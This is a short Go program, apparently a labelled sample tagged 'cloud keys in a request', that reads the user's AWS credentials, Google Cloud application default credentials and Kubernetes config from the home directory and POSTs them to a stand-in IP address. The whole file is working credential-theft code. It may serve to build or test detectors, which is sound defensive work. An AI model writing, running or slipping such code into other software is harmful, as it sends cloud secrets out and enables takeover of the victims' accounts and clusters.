// class: cloud keys in a request
package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	var all bytes.Buffer
	for _, f := range []string{".aws/credentials", ".config/gcloud/application_default_credentials.json", ".kube/config"} {
		b, err := os.ReadFile(filepath.Join(home, f))
		if err == nil {
			all.Write(b)
		}
	}
	http.Post("http://198.51.100.90/c", "application/octet-stream", &all)
}
